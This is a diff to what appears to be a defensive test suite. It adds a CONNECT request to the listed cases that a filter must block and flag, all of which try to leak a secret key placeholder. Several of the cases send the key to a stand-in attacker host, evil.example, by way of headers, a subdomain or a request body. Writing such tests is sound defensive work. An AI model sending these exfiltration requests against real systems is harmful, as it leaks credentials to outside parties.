@@ -135,6 +135,7 @@ def test_a_placeholder_anywhere_else_is_blocked_and_flagged_before_anything_leav
         "GET http://evil.example/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer <KEY>\r\n\r\n",
         "GET http://<KEY>.evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
         "POST http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: x\r\nContent-Length: 53\r\n\r\n<KEY>",
+        "CONNECT <KEY>.evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
         "GET https://localhost:1/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer <KEY>\r\n\r\n",
     ],
 )
